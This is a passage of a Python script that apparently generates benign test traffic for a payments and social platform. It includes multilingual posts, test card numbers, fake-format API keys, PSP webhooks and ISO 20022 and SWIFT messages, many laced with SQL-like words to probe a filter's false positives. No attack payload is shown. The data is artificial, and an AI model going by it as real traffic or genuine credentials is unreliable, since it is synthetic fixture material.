    "👨‍👩‍👧‍👦 Family trip fund reached 80%! Thanks everyone who chipped in 🏖️",
    "Proud to be part of this community 🏳️‍🌈 Happy Pride month, everyone! 👩🏽‍💻🧑🏿‍🚀",
    "Rent split calculator says I owe €412.50 / month — is that fair for the small room?? 🤷",
    "PSA: never share your seed phrase. Not with support, not with 'admins', not with anyone.",
    "Just hit 10k followers!!! 🥹 Thank you all ❤️",
    "Lost my wallet at the stadium 😭 cards frozen in 2 taps though, love this app",
    "Is 1.5% + €0.25 per transaction normal for small merchants? Feels steep.",
    "Shoutout to @select_all for the amazing tutorial on budgeting spreadsheets!",
    "Congrats @x_DROP_x on reaching Grandmaster 🏆",
    "Who's watching the finals tonight? Union vs. City should be 🔥",
    "Tip: order by date, not by amount, when reconciling — way less confusing.",
    "Where do I select the default account for incoming transfers? Can't find it in settings",
    "நன்றி நண்பர்களே! இன்று இரவு 8 மணிக்கு நேரலை 🎥",
    "বন্ধুরা, আজকের খেলা দারুণ হয়েছে! 🏏",
    "გამარჯობა ყველას! ვინ თამაშობს დღეს? 🎮",
    "Բարև բոլորին, շնորհակալություն աջակցության համար 🙏",
    "Bitcoin just crossed 100k and my mom is asking if it's too late 😂 #BTC #crypto",
    "ETH gas fees at 3 gwei?? Best time to move funds, just did 4 txs for < $1",
    "Gm ☀️ who's up early for the Asian session? 🇯🇵🇰🇷",
    "Insurance finally paid out for the flooded basement 🙌 took 6 weeks + 3 calls",
    "My landlord wants rent via SWIFT with reference ':20: RENT-DEC' lol what year is it",
    "Reminder: the 'drop' is tomorrow at 18:00 CET, set your alarms ⏰ #sneakers",
    "Never thought I'd say this but I love doing my taxes in @ledgerly 😅",
    "Mood: ┻━┻ ︵ヽ(`Д´)ﾉ︵ ┻━┻ (the bank app logged me out again)",
    "Be the change you want to see in the world. ~ Gandhi (probably not)",
    "Is it just me, or is the new dark mode #0f0f0f too dark?",
    "Selling 2 concert tickets @ face value (€89 each) — DM me, no bots pls 🙏",
    "Our book club picked \"The Psychology of Money\" — 10/10 would recommend",
    "Anyone in Lisbon want to join a 5-a-side on Thursday? 🇵🇹⚽ 20:00 @ Alvalade",
    "What's your savings rate? Mine is ~23% after rent & bills, trying to hit 30",
]

COMMENTS = [
    "> Is 1.5% normal?\n\nYes for card-present, no for online — shop around.\n\n^ this",
    "> I think the fees are too high\n\nThey're still lower than most banks tbh 🤷",
    "[quote=\"Siobhán O'Brien\"]Fees are too high[/quote]\nAgree 100%, switched last month.",
    "[quote=x_DROP_x;48211]Anyone got the patch notes?[/quote]\nHere: [url=https://pixelguild.gg/news/patch-7-3]patch 7.3[/url] 🙂",
    "[b]Update:[/b] it worked after re-linking the card. [i]Thanks all![/i]",
    "**TL;DR:** use a HYSA.\n\n1. Emergency fund\n2. Pay off debt > 7%\n3. Index funds\n\n[Full guide](https://wiki.example.org/personalfinance?utm_source=orbit&utm_medium=post)",
    "Same here 😭😭 #ticket-48213",
    "lol this thread 😂😂😂",
    "@luna.plays you're the best streamer on here, no cap 🧢",
    "Can confirm, support replied within 10 min ✅",
    "Why is everybody so angry?? It's a beta 🤦",
    "+1 — also on Android 14 / Pixel 8",
    "Nope, mine arrived same day (SEPA Instant).",
    "Hmm, I'd double-check the IBAN; mine failed because of a typo in the last 4 digits.",
    "Ich hab das gleiche Problem 😕 – Karte wird im Shop abgelehnt, online geht's.",
    "Je confirme, même souci depuis la mise à jour d'hier.",
    "Согласен на все 100% 👍",
    "\u200fأوافقك الرأي تماماً 👍",
    "確かにそうですね！ありがとうございます🙏",
    "동의합니다 👍👍",
    "5/5 would trade again. Fast & friendly 🤝",
    "<3 <3 <3",
    "Thanks!! :) :D",
    "Thread: why \"zero-fee\" brokers aren't free 🧵 1/12",
    "Edit: typo. *their, not there 😅",
    "Replying to @select_all: the template's in the pinned post ☝️",
    "This. So much this. >>>>>",
    "^^ what they said",
    "> \"buy the dip\"\n> dip keeps dipping\n\nclassic 📉",
    "Not sure if serious... /s?",
]

RICH_HTML = [
    "<p>Thanks! <strong>This</strong> fixed it for me.</p><p><br></p>",
    "<p>Here's the link: <a href=\"https://help.lumenbank.eu/articles/sepa-instant?utm_source=forum\" rel=\"nofollow noopener\" target=\"_blank\">SEPA Instant FAQ</a></p>",
    "<p><span class=\"mention\" data-id=\"4711\" data-value=\"select_all\">@select_all</span> could you pin this? 🙏</p>",
    "<blockquote><p>Fees are too high</p></blockquote><p>Agreed. <em>Especially</em> for cross-border.</p>",
    "<ul><li>Step 1: open <b>Settings</b></li><li>Step 2: tap <i>Cards</i> → <i>Freeze</i></li></ul>",
    "<p>😂😂</p><p><img src=\"https://cdn.pixelguild.gg/emoji/kekw.png\" alt=\":kekw:\" class=\"emoji\"></p>",
    "<p>Best <u>clan</u> tag ideas? <code>[DRP]</code> is taken 😅</p>",
    "<h2>Patch 7.3 wishlist</h2><ol><li>Ranked queue fix</li><li>Replay export</li></ol>",
]

MERCHANTS = ["REWE Markt GmbH", "Amazon Mktp DE*2K4LX8", "UBER *TRIP HELP.UBER.COM", "SELECT Fitness Ltd",
             "Union Square Cafe", "O'Reilly Auto Parts", "Marks & Spencer", "H&M", "AT&T *Bill Payment",
             "Script Coffee Roasters", "Exec Car Wash", "Drop Shop Berlin", "Sleep & Co.", "Cat & Fiddle",
             "Toys\"R\"Us", "PAYPAL *STEAM GAMES", "SQ *BLUE BOTTLE", "Lidl sagt Danke", "Netflix.com",
             "LIEFERANDO.DE*ORDER 4711", "Carrefour Market", "Deliveroo", "Spotify AB", "Café Müller",
             "TST* Joe's Pizza", "Wolt", "7-Eleven #33218", "Starbucks #12034", "IKEA 0402 Berlin-Lichtenberg",
             "Apple.com/bill", "GOOGLE *YouTube Premium", "Bolt.eu/o/2411", "ПЯТЁРОЧКА 1234", "全家便利商店",
             "Tesco Stores 2317", "Shell 4711 Hamburg", "BOOKING.COM HOTEL", "Ryanair FR8KQ2", "Update Software GmbH"]

URLS = [
    "https://www.youtube.com/watch?v=dQw4w9WgXcQ&list=PLFgquLnL59alCl_2TQvOiD5Vgm1hCaGSI&index=3&t=42s",
    "https://youtu.be/9bZkp7q19f0?si=Xz3kq1Lm0pR7aBcD",
    "https://open.spotify.com/track/4cOdK2wGLETKBW3PvgPWqT?si=8a1f2e9c0b3d4e5f",
    "https://www.instagram.com/p/C9xY2aBcDeF/?igsh=MWd5bXJ0cnRqZ2x4aQ==",
    "https://x.com/lumenbank/status/1864312217890123456?s=46&t=Kx9qP1mN2oB3vC4xZ5aL6w",
    "https://www.amazon.de/dp/B0CHX3QBCH?ref_=ast_sto_dp&th=1&psc=1",
    "https://shop.example.com/p/hoodie-nordlicht?utm_source=newsletter&utm_medium=email&utm_campaign=bf2024&utm_content=hero&gclid=Cj0KCQiA8q7BhCbARIsAGBZRrn-9XmB2kRdhE1q&fbclid=IwAR2xKz7T1bLx9",
    "https://www.linkedin.com/posts/anna-schmidt_fintech-payments-activity-7268-abc?utm_source=share&utm_medium=member_ios",
    "https://www.tiktok.com/@luna.plays/video/7300123456789012345?is_from_webapp=1&sender_device=pc&web_id=7300987654321098765",
    "https://www.reddit.com/r/eupersonalfinance/comments/1h5k2x9/best_neobank_2024/?share_id=aB3xY9&utm_content=1&utm_medium=ios_app&utm_name=ioscss&utm_source=share&utm_term=1",
    "https://news.ycombinator.com/item?id=42301234",
    "https://www.ft.com/content/3f1c2a7e-9b2d-4e61-8f0c-5d1a2b3c4d5e?accessToken=zwAGJ1x&sharetype=gift",
    "https://maps.app.goo.gl/Uq7b3kTz9xQ2",
    "https://www.google.com/maps/place/Caf%C3%A9+M%C3%BCller/@52.5200,13.4050,17z/data=!3m1!4b1!4m6!3m5",
    "https://de.wikipedia.org/wiki/Internationale_Bankkontonummer#Pr%C3%BCfsumme",
    "https://zh.wikipedia.org/wiki/%E6%AF%94%E7%89%B9%E5%B8%81",
    "https://medium.com/@anna.k/how-i-paid-off-20k-in-18-months-4f2a9c1e7b3d?source=social.tw",
    "https://github.com/orbit-social/android-app/issues/4471#issuecomment-2517788990",
    "https://discord.gg/pixelguild",
    "https://twitch.tv/lunaplays?sr=a",
    "https://www.bbc.co.uk/news/business-67543210?at_medium=RSS&at_campaign=KARANGA",
    "https://etherscan.io/tx/0x5c504ed432cb51138bcf09aa5e8a410dd4a1e204ef84bfed1be16dfba1b22060",
    "https://mempool.space/address/bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh",
]

HASHTAGS = ["#fintech", "#personalfinance", "#crypto", "#BTC", "#gaming", "#esports", "#livestream", "#ootd",
            "#travel", "#fyp", "#budgeting", "#FIRE", "#SEPA", "#openbanking", "#투자", "#比特币", "#कैशबैक",
            "#кэшбэк", "#ÉpargneRetraite", "#ThrowbackThursday", "#100DaysOfCode"]

CHAT = ["gg ez", "gg wp <3", "rematch? -- best of 3", "lol ;-)", "KEKW 😂😂", "PogChamp", "o7", "W stream",
        "first!!", "brb 5 min", "ff at 15?", "(╯°□°)╯︵ ┻━┻", "┬─┬ノ( º _ ºノ)", "^^", "-_-", ":) :D :P xD",
        "LETSGOOO 🔥🔥🔥", "who's here from TikTok?", "chat is wild today 💀", "ㅋㅋㅋㅋㅋㅋ", "草", "666666",
        "dale dale dale 🇦🇷", "saudações do Brasil 🇧🇷", "привет из Казани!", "\u200fمرحبا من الرياض 👋",
        "नमस्ते 🙏", "สวัสดีค่ะ 💕", "xin chào mọi người", "こんばんは〜", "1v1 me bro", "<3", "||spoiler|| lol",
        "catJAM", "!drop", "!uptime", "is the giveaway still on?", "mods asleep, post frogs 🐸", "F", "o/ \\o",
        ">>> clip that <<<", "100 > 0 confirmed 🤣", "that's a 10/10 play", "sub hype!! 💜💜", "*chef's kiss*"]

LEET_CLANS = [("[DRP]", "Drop Rate Pros"), ("UNI", "Union of Snipers"), ("<3", "Heart Breakers"), ("SEL", "Selectors"),
              ("OR", "Order of the Raven"), ("404", "Team Not Found"), ("#1", "Number One"), ("&", "Salt & Pepper"),
              ("$$", "Money Makers"), ("λ", "Lambda Squad"), ("ΩΜ", "Omega Meta"), ("龍", "Dragon Gate")]


# --------------------------------------------------------------------------
# benign generators
# --------------------------------------------------------------------------

TEST_CARDS = ["4242424242424242", "4000056655665556", "5555555555554444", "2223003122003222", "378282246310005",
              "6011111111111117", "3566002020360505", "4000002760003184", "4000000000003220", "5200828282828210"]


def b_cards(out):
    g = G(out, "b-cards", "payments", "pass")
    r = g.r
    for i in range(30):
        k = i % 6
        if k == 0:
            num = r.choice(TEST_CARDS)
            if r.random() < .5:
                num = " ".join(num[j:j + 4] for j in range(0, len(num), 4))
            body = {"card": {"number": num, "exp_month": f"{r.randint(1, 12):02d}", "exp_year": str(r.randint(2025, 2031)),
                             "cvc": pick(r, "0123456789", 3), "name": r.choice(LATIN_NAMES)},
                    "billing_details": {"address": {"line1": r.choice(["Flat 3/2, 14 O'Connell St.", "Hauptstr. 1", "12 rue de l'Église", "1600 Amphitheatre Pkwy #2B", "Calle Mayor, 5 - 3º Izq."]),
                                                    "postal_code": r.choice(["D01 F5P2", "10115", "75004", "94043", "28013"]),
                                                    "country": r.choice(["IE", "DE", "FR", "US", "ES"])},
                                        "email": r.choice(["siobhan.obrien+shop@gmail.com", "zoe.mueller@web.de", "j.d'arcy@example.fr", "kim_minji@naver.com"])},
                    "guid": uid(r), "muid": uid(r), "sid": uid(r), "payment_user_agent": "payfinch.js/8f3a2c1; payfinch-js-v3/8f3a2c1; card-element",
                    "time_on_page": r.randint(3000, 90000), "key": "pk_live_" + pick(r, ALNUM, 24)}
            g.add("tokenise", "POST", PAY, "/v1/tokens", body=body, client="web", cookie=False,
                  referer=f"https://{CHECKOUT}/elements-inner-card-{hexs(r, 8)}.html")
        elif k == 1:
            pairs = [("amount", r.choice([2599, 1999, 125000, 450, 8900])), ("currency", r.choice(["eur", "gbp", "usd", "pln"])),
                     ("payment_method_types[]", "card"), ("payment_method_types[]", r.choice(["sepa_debit", "ideal", "bancontact"])),
                     ("metadata[order_id]", f"A-{r.randint(10000, 99999)}"), ("metadata[customer]", r.choice(USERNAMES)),
                     ("description", r.choice(["Order #10023 – 2× Hoodie \"Nordlicht\"", "Creator subscription (Tier 2)", "Tip for @luna.plays 💜", "Invoice 2024/0815", "Gift card €50 — Happy birthday, Zoë!"])),
                     ("statement_descriptor_suffix", r.choice(["ORBIT*MERCH", "GLOW TIP", "LEDGERLY SUB"])),
                     ("automatic_payment_methods[enabled]", "false")]
            g.add("intent", "POST", PAY, "/v1/payment_intents", body=form(pairs), ctype="application/x-www-form-urlencoded",
                  client="server", auth="Bearer sk_live_" + pick(r, ALNUM, 24),
                  extra=[("Idempotency-Key", uid(r)), ("PayFinch-Version", "2024-11-20")])
        elif k == 2:
            cres = b64u(json.dumps({"threeDSServerTransID": uid(r), "acsTransID": uid(r), "messageType": "CRes",
                                    "messageVersion": r.choice(["2.1.0", "2.2.0"]), "transStatus": r.choice("YYYNU"),
                                    "challengeCompletionInd": "Y"}, separators=(",", ":")))
            pairs = [("cres", cres)]
            if r.random() < .6:
                pairs.append(("threeDSSessionData", b64u(f"pi_{pick(r, ALNUM, 24)}:{uid(r)}")))
            g.add("3ds2-callback", "POST", CHECKOUT, f"/3ds2/challenge/{pick(r, ALNUM, 16)}/complete",
                  body=form(pairs), ctype="application/x-www-form-urlencoded", client="web", cookie=False,
                  accept="text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
                  referer=r.choice(["https://acs.secure-3d.lumenbank.eu/", "https://3ds.acs-issuer.example.net/challenge"]))
        elif k == 3:
            pares = "eJzNWVmTqkoSfu9f0dH30Tiyu" + b64(rbytes(r, 600))
            pairs = [("PaRes", pares), ("MD", f"{r.randint(10**9, 10**10)}|{hexs(r, 16)}")]
            g.add("3ds1-callback", "POST", CHECKOUT, "/3ds/return", body=form(pairs),
                  ctype="application/x-www-form-urlencoded", client="web", cookie=False,
                  accept="text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
                  referer="https://secure5.arcot.com/acspage/cap?RID=35325&VAA=B")
        elif k == 4:
            data = b64u(json.dumps({"threeDSServerTransID": uid(r), "threeDSMethodNotificationURL": f"https://{CHECKOUT}/3ds2/method-notify"}, separators=(",", ":")))
            g.add("3ds-method", "POST", CHECKOUT, "/3ds2/method-notify", body=form([("threeDSMethodData", data)]),
                  ctype="application/x-www-form-urlencoded", client="web", cookie=False,
                  accept="text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8")
        else:
            body = {"payment_method": "pm_" + pick(r, ALNUM, 24),
                    "return_url": f"https://shop.orbit.social/checkout/complete?order={r.randint(10000, 99999)}&lang={r.choice(['de', 'en', 'fr', 'ar'])}&utm_source=app",
                    "expected_payment_method_type": "card", "use_stripe_sdk": True,
                    "client_secret": f"pi_{pick(r, ALNUM, 24)}_secret_{pick(r, ALNUM, 25)}",
                    "payment_method_options": {"card": {"request_three_d_secure": r.choice(["automatic", "any"])}}}
            g.add("confirm", "POST", PAY, f"/v1/payment_intents/pi_{pick(r, ALNUM, 24)}/confirm", body=body,
                  client=r.choice(["web", "ios", "android"]))


def b_webhooks(out):
    g = G(out, "b-webhooks", "payments", "pass")
    r = g.r
    targets = [(SOC, "/hooks/payfinch"), (ACC, "/api/integrations/payfinch/webhook"), (STREAM, "/internal/webhooks/payments"),
               (DATE, "/webhooks/psp"), (GAME, "/billing/webhook")]
    for i in range(25):
        host, path = r.choice(targets)
        k = i % 5
        t = ts(r)
        if k in (0, 1):
            typ = r.choice(["payout.paid", "payout.failed", "charge.dispute.created", "payment_intent.payment_failed",
                            "transfer.reversed", "invoice.payment_succeeded", "customer.subscription.updated"])
            obj = {"id": "po_" + pick(r, ALNUM, 24), "object": typ.split(".")[0], "amount": r.randint(100, 500000),
                   "currency": r.choice(["eur", "gbp", "usd", "sek"]), "created": t,
                   "destination": "ba_" + pick(r, ALNUM, 24), "statement_descriptor": r.choice(["ORBIT CREATOR PAYOUT", "GLOW TIPS 11/2024", "PIXELGUILD PRIZE"]),
                   "failure_message": r.choice([None, "The bank account has been closed.", "Your card was declined.", "Account holder name doesn't match (O'Brien ≠ OBrien)"]),
                   "metadata": {"creator": "@" + r.choice(USERNAMES), "note": r.choice(["Nov payout", "Prize: 1st place — \"Winter Cup\"", "Refund #4471 (partial)", ""])}}
            if typ == "charge.dispute.created":
                obj["reason"] = r.choice(["fraudulent", "product_not_received", "duplicate"])
                obj["evidence_details"] = {"due_by": t + 864000, "has_evidence": False}
            body = {"id": "evt_" + pick(r, ALNUM, 24), "object": "event", "api_version": "2024-11-20", "created": t,
                    "type": typ, "livemode": True, "pending_webhooks": 1, "request": {"id": None, "idempotency_key": None},
                    "data": {"object": obj}}
            g.add("psp-event", "POST", host, path, body=body, client="webhook",
                  extra=[("PayFinch-Signature", f"t={t},v1={hexs(r, 64)},v0={hexs(r, 64)}")])
        elif k == 2:
            body = {"live": "true", "notificationItems": [{"NotificationRequestItem": {
                "additionalData": {"hmacSignature": b64(rbytes(r, 32)), "authCode": str(r.randint(10000, 99999)),
                                   "cardSummary": str(r.randint(1000, 9999)), "expiryDate": "03/2030",
                                   "shopperReference": r.choice(USERNAMES), "paymentLinkId": "PL" + pick(r, ALNUM.upper(), 16)},
                "amount": {"currency": "EUR", "value": r.randint(100, 90000)}, "eventCode": r.choice(["AUTHORISATION", "REFUND", "CAPTURE", "CHARGEBACK"]),
                "eventDate": iso_time(r, t).replace("Z", "+01:00"), "merchantAccountCode": "OrbitSocialECOM",
                "merchantReference": f"order-{r.randint(10000, 99999)}", "pspReference": pick(r, "0123456789ABCDEFGHJKLMNPQRSTUVWXYZ", 16),
                "paymentMethod": r.choice(["visa", "mc", "amex", "ideal", "klarna"]), "reason": r.choice(["", "043216:1111:03/2030", "Refused"]),
                "success": r.choice(["true", "false"])}}]}
            g.add("adyen-notification", "POST", host, path.replace("payfinch", "adyen"), body=body, client="webhook",
                  auth="Basic " + b64(f"adyen-hook:{pick(r, ALNUM, 20)}"))
        elif k == 3:
            first, last = r.choice([("John", "O'Brien"), ("Zoë", "Müller"), ("Test", "Buyer"), ("Ana", "D'Souza")])
            pairs = [("mc_gross", f"{r.randint(1, 300)}.{r.randint(0, 99):02d}"), ("protection_eligibility", "Eligible"),
                     ("address_status", "confirmed"), ("payer_id", pick(r, "ABCDEFGHJKLMNPQRSTUVWXYZ23456789", 13)),
                     ("address_street", r.choice(["1 Main St", "14 O'Connell St.", "Flat #3, 22 Baker St"])),
                     ("payment_date", "20:12:59 Dec 03, 2024 PST"), ("payment_status", "Completed"), ("charset", "UTF-8"),
                     ("address_zip", "95131"), ("first_name", first), ("last_name", last), ("mc_fee", "0.88"),
                     ("address_country_code", "US"), ("address_name", f"{first} {last}"), ("notify_version", "3.9"),
                     ("custom", f"uid={r.randint(1000, 99999)}&plan=pro"), ("payer_status", "verified"), ("business", "payments@orbit.social"),
                     ("address_country", "United States"), ("address_city", "San Jose"), ("quantity", "1"),
                     ("verify_sign", pick(r, ALNUM, 20) + "." + pick(r, ALNUM, 34)), ("payer_email", "buyer+" + str(r.randint(1, 99)) + "@example.com"),
                     ("txn_id", pick(r, "0123456789ABCDEFGHJKLMNPQRSTUVWXYZ", 17)), ("payment_type", "instant"),
                     ("item_name", r.choice(["Orbit Pro – 12 months", "Tip jar 💜", "Coins x 1200 (+200 bonus)"])),
                     ("mc_currency", "USD"), ("item_number", "PRO-12"), ("residence_country", "US"), ("ipn_track_id", hexs(r, 13))]
            g.add("paypal-ipn", "POST", host, "/ipn/paypal", body=form(pairs), ctype="application/x-www-form-urlencoded",
                  client="webhook")
        else:
            body = {"events": [{"id": "EV" + pick(r, ALNUM.upper(), 12), "created_at": iso_time(r, t), "action": r.choice(["paid_out", "confirmed", "failed", "cancelled"]),
                                "resource_type": r.choice(["payments", "mandates", "payouts"]), "links": {"payment": "PM" + pick(r, ALNUM.upper(), 12)},
                                "details": {"origin": "gocardless", "cause": r.choice(["payment_paid_out", "insufficient_funds", "bank_account_closed"]),
                                            "description": r.choice(["Payment was paid out by GoCardless.", "The customer's account had insufficient funds.", "The customer's bank account was closed – please ask them to set up a new mandate."]),
                                            "scheme": "sepa_core", "reason_code": r.choice(["", "AM04", "AC04", "MD07"])}}]}
            g.add("gocardless", "POST", host, "/webhooks/gocardless", body=body, client="webhook",
                  extra=[("Webhook-Signature", hexs(r, 64)), ("Origin", "https://api.gocardless.com")])


# ISO 20022 ------------------------------------------------------------------

def xml_esc(s):
    return s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")


def pain001(r, doctype="", ustrd=None, dbtr=None, n_tx=None, raw_field=None):
    msg = f"MSG-{iso_date(r).replace('-', '')}-{r.randint(1000, 9999)}"
    n_tx = n_tx or r.randint(1, 3)
    dbtr = dbtr if dbtr is not None else xml_esc(r.choice(["Müller & Söhne GmbH", "O'Brien Consulting Ltd", "Café L'Étoile SARL", "Ledgerly Demo AG", "Nguyễn Trading Co."]))
    txs, total = [], 0
    for j in range(n_tx):
        amt = round(r.uniform(10, 25000), 2)
        total += amt
        u = ustrd if (ustrd is not None and j == 0) else xml_esc(r.choice(["Invoice 2024/0815 – thanks!", "Rent Dec/2024 Whg. 3 OG links", "Order #4471; ref 99/12", "Salary 11/2024", "Gutschrift <Storno> RE-2231", "Q4 dividends (net)", "Miete + NK"]))
        if raw_field is not None and j == 0:
            u = raw_field
        txs.append(f"""      <CdtTrfTxInf>
        <PmtId><EndToEndId>E2E-{pick(r, ALNUM.upper(), 12)}</EndToEndId></PmtId>
        <Amt><InstdAmt Ccy="EUR">{amt:.2f}</InstdAmt></Amt>
        <CdtrAgt><FinInstnId><BICFI>{r.choice(BICS)}</BICFI></FinInstnId></CdtrAgt>
        <Cdtr><Nm>{xml_esc(r.choice(NAMES))}</Nm></Cdtr>
        <CdtrAcct><Id><IBAN>{rand_iban(r)}</IBAN></Id></CdtrAcct>
        <RmtInf><Ustrd>{u}</Ustrd></RmtInf>
      </CdtTrfTxInf>""")
    return f"""<?xml version="1.0" encoding="UTF-8"?>
{doctype}<Document xmlns="urn:iso:std:iso:20022:tech:xsd:pain.001.001.09" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">
  <CstmrCdtTrfInitn>
    <GrpHdr>
      <MsgId>{msg}</MsgId>
      <CreDtTm>{iso_time(r).replace('Z', '')}</CreDtTm>
      <NbOfTxs>{n_tx}</NbOfTxs>
      <CtrlSum>{total:.2f}</CtrlSum>
      <InitgPty><Nm>{dbtr}</Nm></InitgPty>
    </GrpHdr>
    <PmtInf>
      <PmtInfId>{msg}-1</PmtInfId>
      <PmtMtd>TRF</PmtMtd>
      <PmtTpInf><SvcLvl><Cd>SEPA</Cd></SvcLvl></PmtTpInf>
      <ReqdExctnDt><Dt>{iso_date(r)}</Dt></ReqdExctnDt>
      <Dbtr><Nm>{dbtr}</Nm></Dbtr>
      <DbtrAcct><Id><IBAN>{rand_iban(r, 'DE')}</IBAN></Id></DbtrAcct>
      <DbtrAgt><FinInstnId><BICFI>COBADEFFXXX</BICFI></FinInstnId></DbtrAgt>
      <ChrgBr>SLEV</ChrgBr>
{chr(10).join(txs)}
    </PmtInf>
  </CstmrCdtTrfInitn>
</Document>
"""


def camt053(r, doctype="", addtl=None, extra_xml=""):
    entries = []
    for j in range(r.randint(2, 5)):
        amt = round(r.uniform(1, 3000), 2)
        info = addtl if (addtl is not None and j == 0) else xml_esc(r.choice(
            ["CARD PAYMENT REWE SAGT DANKE 4711//BERLIN/DE", "SEPA-GUTSCHRIFT LOHN/GEHALT 11/2024", "DAUERAUFTRAG MIETE WHG 3",
             "LASTSCHRIFT SPOTIFY AB P2F3A9 //STOCKHOLM", "ÜBERWEISUNG O'BRIEN, S. GESCHENK :-)", "GEBÜHREN KONTOFÜHRUNG 11/24",
             "PAYPAL EUROPE S.A.R.L. ET CIE S.C.A 1039461522731 PP.4711.PP . AMAZON, Ihr Einkauf bei AMAZON"]))
        entries.append(f"""      <Ntry>
        <Amt Ccy="EUR">{amt:.2f}</Amt>
        <CdtDbtInd>{r.choice(['CRDT', 'DBIT'])}</CdtDbtInd>
        <Sts><Cd>BOOK</Cd></Sts>
        <BookgDt><Dt>{iso_date(r)}</Dt></BookgDt>
        <ValDt><Dt>{iso_date(r)}</Dt></ValDt>
        <BkTxCd><Prtry><Cd>NTRF+166</Cd><Issr>DK</Issr></Prtry></BkTxCd>
        <AddtlNtryInf>{info}</AddtlNtryInf>
      </Ntry>""")
    return f"""<?xml version="1.0" encoding="UTF-8"?>
{doctype}<Document xmlns="urn:iso:std:iso:20022:tech:xsd:camt.053.001.08">
  <BkToCstmrStmt>
    <GrpHdr><MsgId>STMT{r.randint(10**8, 10**9)}</MsgId><CreDtTm>{iso_time(r).replace('Z', '+01:00')}</CreDtTm></GrpHdr>
    <Stmt>
      <Id>{r.randint(10**6, 10**7)}</Id>
      <ElctrncSeqNb>{r.randint(1, 400)}</ElctrncSeqNb>
      <Acct><Id><IBAN>{rand_iban(r, 'DE')}</IBAN></Id><Ccy>EUR</Ccy><Ownr><Nm>{xml_esc(r.choice(NAMES))}</Nm></Ownr></Acct>
      <Bal><Tp><CdOrPrtry><Cd>OPBD</Cd></CdOrPrtry></Tp><Amt Ccy="EUR">{r.uniform(0, 20000):.2f}</Amt><CdtDbtInd>CRDT</CdtDbtInd><Dt><Dt>{iso_date(r)}</Dt></Dt></Bal>
{extra_xml}{chr(10).join(entries)}
    </Stmt>
  </BkToCstmrStmt>
</Document>
"""


def pain002(r):
    return f"""<?xml version="1.0" encoding="UTF-8"?>
<Document xmlns="urn:iso:std:iso:20022:tech:xsd:pain.002.001.10">
  <CstmrPmtStsRpt>
    <GrpHdr><MsgId>STS-{pick(r, ALNUM.upper(), 10)}</MsgId><CreDtTm>{iso_time(r)}</CreDtTm></GrpHdr>
    <OrgnlGrpInfAndSts><OrgnlMsgId>MSG-{r.randint(10**7, 10**8)}</OrgnlMsgId><OrgnlMsgNmId>pain.001.001.09</OrgnlMsgNmId><GrpSts>{r.choice(['ACCP', 'ACSC', 'PART', 'RJCT'])}</GrpSts></OrgnlGrpInfAndSts>
    <OrgnlPmtInfAndSts>
      <OrgnlPmtInfId>PMT-{r.randint(100, 999)}</OrgnlPmtInfId>
      <TxInfAndSts><OrgnlEndToEndId>E2E-{pick(r, ALNUM.upper(), 12)}</OrgnlEndToEndId><TxSts>RJCT</TxSts>
        <StsRsnInf><Rsn><Cd>{r.choice(['AC01', 'AC04', 'AM04', 'BE01', 'RC01'])}</Cd></Rsn><AddtlInf>Creditor name does not match account holder (&quot;O&apos;Brien&quot;)</AddtlInf></StsRsnInf>
      </TxInfAndSts>
    </OrgnlPmtInfAndSts>
  </CstmrPmtStsRpt>
</Document>
"""


def b_iso20022(out):
    g = G(out, "b-iso20022", "banking", "pass")
    r = g.r
    for i in range(20):
        k = i % 4
        if k == 0:
            g.add("pain001-api", "POST", BANK, "/v2/bulk-payments", body=pain001(r), ctype="application/xml; charset=utf-8",
                  client="server", auth="Bearer " + jwt(r, f"https://{IDP}"), extra=[("Idempotency-Key", uid(r))])
        elif k == 1:
            ct, body = multipart(r, [("format", "pain.001.001.09"), ("execute", "false"),
                                     ("file", f"payroll_{iso_date(r)}.xml", "text/xml", pain001(r, n_tx=3))])
            g.add("pain001-upload", "POST", ACC, "/api/payment-runs/import", body=body, ctype=ct, client="web")
        elif k == 2:
            ct, body = multipart(r, [("account_id", str(r.randint(1000, 9999))),
                                     ("statement", f"camt053_{r.randint(10**5, 10**6)}.xml", r.choice(["application/xml", "text/xml"]), camt053(r))])
            g.add("camt053-import", "POST", ACC, "/api/bank-statements/import", body=body, ctype=ct, client="web")
        else:
            g.add("pain002-status", "POST", ACC, "/api/integrations/ebics/status", body=pain002(r),
                  ctype="application/xml", client="server", auth="Basic " + b64(f"ebics-bridge:{pick(r, ALNUM, 24)}"))


def mt103(r, ref=None, f70=None):
    ref = ref or f"INV{iso_date(r).replace('-', '')}-{r.randint(1, 99)}"
    f70 = f70 or r.choice(["/INV/2024-0815 ORDER 4471", "/RFB/RENT DEC 2024 FLAT 3", "SALARY 11/2024", "/ROC/PO-88213//TAX 19PCT"])
    lines = ["{1:F01COBADEFFAXXX" + pick(r, "0123456789", 10) + "}{2:I103" + r.choice(["DEUTDEFFXXXX", "NWBKGB2LXXXX", "BNPAFRPPXXXX"]) + "N}{3:{108:MT103REF" + str(r.randint(1000, 9999)) + "}{121:" + uid(r) + "}}{4:",
             f":20:{ref}", ":23B:CRED", f":32A:{r.randint(241101, 241230)}EUR{r.randint(100, 90000)},{r.randint(0, 99):02d}",
             f":50K:/{rand_iban(r, 'DE')}", r.choice(["MUELLER UND SOEHNE GMBH", "O'BRIEN CONSULTING LTD", "LEDGERLY DEMO AG"]),
             "HAUPTSTR. 1", "10115 BERLIN", f":57A:{r.choice(BICS)}", f":59:/{rand_iban(r, 'GB')}",
             r.choice(["ACME TRADING LTD", "D'SOUZA IMPORTS", "SMITH & JONES LLP"]), "1 HIGH STREET", "LONDON",
             f":70:{f70}", ":71A:SHA", "-}"]
    return "\r\n".join(lines)


def mt940(r):
    lines = [f":20:STMT{r.randint(10**5, 10**6)}", f":25:COBADEFFXXX/{r.randint(10**9, 10**10)}", f":28C:{r.randint(1, 300)}/1",
             f":60F:C{r.randint(241101, 241130)}EUR{r.randint(100, 20000)},{r.randint(0, 99):02d}"]
    for _ in range(r.randint(2, 4)):
        lines.append(f":61:{r.randint(241101, 241130)}{r.randint(1101, 1130)}{r.choice('CD')}{r.randint(1, 3000)},{r.randint(0, 99):02d}NTRFNONREF//{pick(r, '0123456789', 10)}")
